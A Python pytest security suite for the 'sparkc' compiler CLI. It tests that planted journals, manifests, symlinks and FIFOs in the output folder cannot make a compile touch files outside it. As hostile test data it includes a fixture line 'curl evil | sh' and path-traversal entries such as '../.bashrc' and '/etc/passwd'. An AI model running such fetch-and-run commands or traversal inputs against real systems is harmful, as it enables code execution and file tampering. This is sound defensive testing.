"""The output folder's own records as an attacker plants them: a switch journal left "by a killed compile"
and a manifest.json, in an OUT that was copied or committed. A compile follows them only where they name
sparkc's own outputs, inside OUT, with the bytes an earlier compile recorded; nothing outside OUT changes,
no file of the user's goes, and what sparkc refuses it says, with exit 2 (the output folder is the user's
to fix), never 3."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from compiler.cli.main import cli, main
from tests.specs import EXAMPLES, ROOT

pytestmark = pytest.mark.security

SEED = EXAMPLES / "seed-qwen35-122b-2spark-ray.yaml"
HOOKS = EXAMPLES / "qwen3-32b-2spark-hooks.yaml"
SIDE_BY_SIDE = EXAMPLES / "side-by-side"
SWITCH = ".sparkc-switch"
JOURNAL = ".sparkc-journal.json"


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def compile_into(spec: Path, out: Path, *more: str) -> int:
    return main(["compile", str(spec), "-o", str(out), *more])


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A folder beside OUT standing for the user's home: its files must never change."""
    folder = tmp_path / "home"
    folder.mkdir()
    (folder / ".bashrc").write_text("# the user's own\n")
    (folder / "beside.txt").write_text("the user's own\n")
    return folder


def files_of(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def plant_switch(out: Path, journal: object, files: dict[str, str] | None = None) -> Path:
    switch = out / SWITCH
    switch.mkdir(parents=True)
    for name, text in (files or {}).items():
        (switch / name).parent.mkdir(parents=True, exist_ok=True)
        (switch / name).write_text(text)
    (switch / JOURNAL).write_text(json.dumps(journal))
    return switch


# -- the switch journal ------------------------------------------------------------------------------------


def test_a_planted_journal_cannot_replace_or_delete_files_outside_out(
    tmp_path: Path, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = home / "build"
    out.mkdir()
    (out / ".bashrc").write_text("curl evil | sh\n")  # what the journal moves "in" over ../.bashrc
    plant_switch(out, {"write": ["../.bashrc"], "remove": {"../beside.txt": sha(b"the user's own\n")}})
    before = files_of(home)
    code = compile_into(SEED, out)
    assert code == 2
    assert "not left by an interrupted sparkc compile" in capsys.readouterr().err
    assert files_of(home) == before


@pytest.mark.parametrize(
    "journal",
    [
        {"write": ["/etc/passwd"], "remove": {}},
        {"write": [], "remove": ["../beside.txt"]},  # an old-style list: not what this sparkc writes
        {"write": [], "remove": {"../beside.txt": "x"}},
        {"write": [".sparkc.lock"], "remove": {}},
        {"write": ["sub/x.sh"], "remove": {}},  # only the patches folder has sub-folders
        ["status.sh"],
        "status.sh",
    ],
)
def test_a_journal_naming_anything_but_sparkcs_outputs_is_refused_whole(
    home: Path, journal: object, capsys: pytest.CaptureFixture[str]
) -> None:
    out = home / "build"
    switch = plant_switch(out, journal, {"status.sh": "planted\n"})
    before = files_of(home)
    assert compile_into(SEED, out) == 2
    assert f"{switch} was not left by an interrupted sparkc compile" in capsys.readouterr().err
    assert files_of(home) == before  # nothing moved in, nothing deleted, the switch folder kept to look at


def test_a_link_in_the_switch_folder_is_never_followed(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = home / "build"
    switch = plant_switch(out, {"write": ["status.sh"], "remove": {}})
    (switch / "status.sh").symlink_to(home / ".bashrc")  # moving it in would take the user's file away
    before = files_of(home)
    assert compile_into(SEED, out) == 2
    assert "status.sh in it is not a plain file" in capsys.readouterr().err
    assert files_of(home) == before and (home / ".bashrc").is_file()


def test_a_switch_folder_that_is_a_link_is_refused(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = home / "build"
    out.mkdir()
    elsewhere = home / "elsewhere"
    plant_switch(elsewhere, {"write": ["status.sh"], "remove": {}}, {"status.sh": "the user's own\n"})
    (out / SWITCH).symlink_to(elsewhere / SWITCH)
    before = files_of(home)
    assert compile_into(SEED, out) == 2
    assert "it is a symbolic link" in capsys.readouterr().err
    assert files_of(home) == before


def test_a_journal_through_a_linked_patches_folder_is_refused(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = home / "build"
    plant_switch(out, {"write": ["patches/.bashrc"], "remove": {"patches/beside.txt": sha(b"the user's own\n")}})
    (out / "patches").symlink_to(home)
    before = files_of(home)
    assert compile_into(SEED, out) == 2
    assert files_of(home) == before


def test_a_journal_this_sparkc_wrote_is_still_finished(tmp_path: Path) -> None:
    out = tmp_path / "build"
    assert compile_into(SEED, out) == 0
    old = out / "lib" / "sparkc-0.0.9.sh"  # an earlier sparkc's library
    old.write_text("echo old\n")
    plant_switch(
        out, {"write": ["status.sh"], "remove": {"lib/sparkc-0.0.9.sh": sha(b"echo old\n")}}, {"status.sh": "half\n"}
    )
    assert compile_into(SEED, out) == 0
    assert not old.exists() and not (out / SWITCH).exists()
    assert compile_into(SEED, out, "--check") == 0


# -- the manifest ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "files",
    [
        ["important.txt"],  # a list records no sha256: nothing is proven
        {"important.txt": "0" * 64},
        {"important.txt": None},
        {"../beside.txt": sha(b"the user's own\n")},
        {"important.txt/": sha(b"mine\n")},
    ],
)
def test_a_foreign_manifest_deletes_nothing_it_cannot_prove_sparkc_wrote(
    home: Path, files: object, capsys: pytest.CaptureFixture[str]
) -> None:
    out = home / "build"
    out.mkdir()
    (out / "important.txt").write_text("mine\n")
    (out / "manifest.json").write_text(json.dumps({"files": files}))
    before = files_of(home)
    assert compile_into(SEED, out) == 0
    assert (out / "important.txt").read_text() == "mine\n"
    assert {k: v for k, v in files_of(home).items() if not k.startswith("build/")} == {
        k: v for k, v in before.items() if not k.startswith("build/")
    }


def test_a_changed_file_an_earlier_compile_wrote_is_kept_with_a_warning(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "build"
    assert compile_into(SEED, out) == 0
    manifest = json.loads((out / "manifest.json").read_text())
    manifest["files"]["lib/sparkc-0.0.9.sh"] = sha(b"echo old\n")
    (out / "manifest.json").write_text(json.dumps(manifest))
    (out / "lib" / "sparkc-0.0.9.sh").write_text("echo edited by hand\n")
    capsys.readouterr()
    assert compile_into(SEED, out) == 0
    assert (out / "lib" / "sparkc-0.0.9.sh").read_text() == "echo edited by hand\n"
    assert "warning: kept lib/sparkc-0.0.9.sh" in capsys.readouterr().err


def test_the_spec_is_never_deleted_even_where_a_manifest_proves_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "project"
    folder.mkdir()
    spec = folder / "spec.yaml"
    shutil.copy(SEED, spec)
    (folder / "manifest.json").write_text(json.dumps({"files": {"spec.yaml": sha(spec.read_bytes())}}))
    assert compile_into(spec, folder) == 0
    assert spec.read_bytes() == SEED.read_bytes()
    assert "removed" not in capsys.readouterr().out


def test_a_foreign_manifest_deletes_neither_the_cluster_file_nor_a_users_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A manifest that records the right sha256 of files sparkc never writes: the cluster file the compile
    has just read, and a file of the user's."""
    folder = tmp_path / "project"
    shutil.copytree(SIDE_BY_SIDE, folder)
    (folder / "notes.txt").write_text("mine\n")
    listed = {name: sha((folder / name).read_bytes()) for name in ("cluster.yaml", "notes.txt")}
    (folder / "manifest.json").write_text(json.dumps({"files": listed}))
    before = files_of(folder)
    assert compile_into(folder / "qwen3-8b-beside.yaml", folder) == 0
    after = files_of(folder)
    assert {name: after.get(name) for name in before if name != "manifest.json"} == {
        name: data for name, data in before.items() if name != "manifest.json"
    }
    assert "removed" not in capsys.readouterr().out


def test_an_input_under_a_generated_name_is_never_deleted(tmp_path: Path) -> None:
    """A cluster file kept where sparkc writes TensorRT-LLM's files, and a manifest that proves it."""
    out = tmp_path / "build"
    (out / "trtllm").mkdir(parents=True)
    shutil.copy(SIDE_BY_SIDE / "cluster.yaml", out / "trtllm" / "cluster.yaml")
    specs = tmp_path / "specs"
    specs.mkdir()
    spec = specs / "beside.yaml"
    text = (SIDE_BY_SIDE / "qwen3-8b-beside.yaml").read_text()
    spec.write_text(text.replace("file: cluster.yaml", "file: ../build/trtllm/cluster.yaml"))
    kept = (out / "trtllm" / "cluster.yaml").read_bytes()
    (out / "manifest.json").write_text(json.dumps({"files": {"trtllm/cluster.yaml": sha(kept)}}))
    assert compile_into(spec, out) == 0
    assert (out / "trtllm" / "cluster.yaml").read_bytes() == kept


def test_a_journal_deleting_a_users_file_is_refused_whole(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = home / "build"
    out.mkdir()
    (out / "notes.txt").write_text("mine\n")
    plant_switch(out, {"write": [], "remove": {"notes.txt": sha(b"mine\n")}})
    assert compile_into(SEED, out) == 2
    assert "its journal names 'notes.txt', which is not a file sparkc writes" in capsys.readouterr().err
    assert (out / "notes.txt").read_text() == "mine\n"


def test_a_spec_named_as_a_generated_file_is_not_overwritten(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    spec = tmp_path / "status.sh"
    shutil.copy(SEED, spec)
    assert compile_into(spec, tmp_path) == 2
    assert "is read by this compile (the spec itself" in capsys.readouterr().err
    assert spec.read_bytes() == SEED.read_bytes()
    assert not (tmp_path / "launch-cluster.sh").exists()


def test_root_and_home_are_refused_as_out(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    assert compile_into(SEED, Path("/")) == 2
    assert "is the root folder" in capsys.readouterr().err
    assert compile_into(SEED, tmp_path) == 2
    assert "is your home folder" in capsys.readouterr().err
    assert list(tmp_path.iterdir()) == []


# -- the patches folder in OUT -----------------------------------------------------------------------------


@pytest.fixture
def hooks_spec(tmp_path: Path) -> Path:
    shutil.copytree(EXAMPLES / "patches", tmp_path / "patches")
    spec = tmp_path / HOOKS.name
    shutil.copy(HOOKS, spec)
    return spec


def test_a_file_removed_from_the_patch_folder_leaves_out_too(
    tmp_path: Path, hooks_spec: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "build"
    assert compile_into(hooks_spec, out) == 0
    patch = tmp_path / "patches" / "qwen3-fix" / "gb10-tuning.patch"
    patch.unlink()
    capsys.readouterr()
    assert compile_into(hooks_spec, out, "--check") == 1
    assert "patches/gb10-tuning.patch" in capsys.readouterr().err
    assert compile_into(hooks_spec, out) == 0
    assert not (out / "patches" / "gb10-tuning.patch").exists()
    assert compile_into(hooks_spec, out, "--check") == 0


def test_a_file_put_into_out_patches_by_hand_is_seen_as_stale(
    tmp_path: Path, hooks_spec: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "build"
    assert compile_into(hooks_spec, out) == 0
    (out / "patches" / "extra.sh").write_text("echo shipped to every node\n")
    capsys.readouterr()
    assert compile_into(hooks_spec, out, "--check") == 1
    assert "patches/extra.sh" in capsys.readouterr().err
    assert compile_into(hooks_spec, out) == 0
    assert "warning: kept patches/extra.sh" in capsys.readouterr().err  # not sparkc's to delete: said


def test_a_linked_out_patches_sends_no_write_outside_out(
    tmp_path: Path, home: Path, hooks_spec: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "build"
    out.mkdir()
    (out / "patches").symlink_to(home)
    before = files_of(home)
    assert compile_into(hooks_spec, out) == 2
    assert "is a symbolic link, not a folder" in capsys.readouterr().err
    assert files_of(home) == before


def test_check_never_waits_on_a_pipe_in_out(tmp_path: Path) -> None:
    out = tmp_path / "build"
    assert compile_into(SEED, out) == 0
    (out / "status.sh").unlink()
    os.mkfifo(out / "status.sh")
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    argv = [sys.executable, "-m", "compiler", "compile", str(SEED), "-o", str(out), "--check"]
    try:
        done = subprocess.run(argv, env=env, capture_output=True, text=True, timeout=60)
    except subprocess.TimeoutExpired:
        pytest.fail("compile --check hung on a FIFO in the output folder")
    assert done.returncode == 1 and "status.sh: missing" in done.stderr


# -- links planted where sparkc and its scripts write -------------------------------------------------------


def test_several_specs_never_write_through_a_link_at_a_deployment_folder(
    tmp_path: Path, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "build"
    out.mkdir()
    (out / "qwen3-8b").symlink_to(home)  # the folder the second deployment goes to
    before = files_of(home)
    specs = [str(SIDE_BY_SIDE / "llama33-70b-fp8-both.yaml"), str(SIDE_BY_SIDE / "qwen3-8b-beside.yaml")]
    assert main(["compile", *specs, "-o", str(out)]) == 2
    assert f"{out / 'qwen3-8b'} is a symbolic link, not a folder" in capsys.readouterr().err
    assert files_of(home) == before
    assert main(["compile", *specs, "-o", str(out), "--check"]) == 2  # named, never read through
    assert f"{out / 'qwen3-8b'} is a symbolic link" in capsys.readouterr().err


def test_setup_fabric_never_writes_through_a_planted_link(tmp_path: Path, home: Path) -> None:
    out = tmp_path / "build"
    out.mkdir()
    (out / ".setup-fabric.sh.tmp").symlink_to(home / ".bashrc")  # its old temporary name
    before = files_of(home)
    result = CliRunner().invoke(cli, ["setup-fabric", str(SEED), "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert files_of(home) == before and not os.access(home / ".bashrc", os.X_OK)
    assert (out / "setup-fabric.sh").is_file() and not (out / "setup-fabric.sh").is_symlink()
    (out / "setup-fabric.sh").unlink()
    (out / "setup-fabric.sh").symlink_to(home / ".bashrc")
    result = CliRunner().invoke(cli, ["setup-fabric", str(SEED), "-o", str(out)])
    assert result.exit_code == 2
    assert f"{out / 'setup-fabric.sh'} is a symbolic link, where sparkc writes a file of its own" in result.output
    assert files_of(home) == before


@pytest.mark.parametrize("name", ["distribute-report.txt", "last-launch.txt", "logs", "bench", "status.sh", "lib"])
def test_check_names_a_link_where_sparkc_or_its_scripts_write(
    tmp_path: Path, home: Path, name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "build"
    assert compile_into(SEED, out) == 0
    target = home / "copy"
    if (out / name).exists():  # the same bytes elsewhere: what is read through the link is up to date
        shutil.move(out / name, target)
    (out / name).symlink_to(target if target.exists() else home / ".bashrc")
    capsys.readouterr()
    assert compile_into(SEED, out, "--check") == 1
    assert f"  {name}: a symbolic link where sparkc or its scripts write" in capsys.readouterr().err


def test_a_link_where_a_generated_file_goes_is_named(
    tmp_path: Path, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "build"
    assert compile_into(SEED, out) == 0
    (out / "status.sh").unlink()
    (out / "status.sh").symlink_to(home / ".bashrc")
    before = files_of(home)
    capsys.readouterr()
    assert compile_into(SEED, out) == 2
    assert f"{out / 'status.sh'} is a symbolic link, where sparkc writes a file of its own" in capsys.readouterr().err
    assert files_of(home) == before and (out / "status.sh").is_symlink()
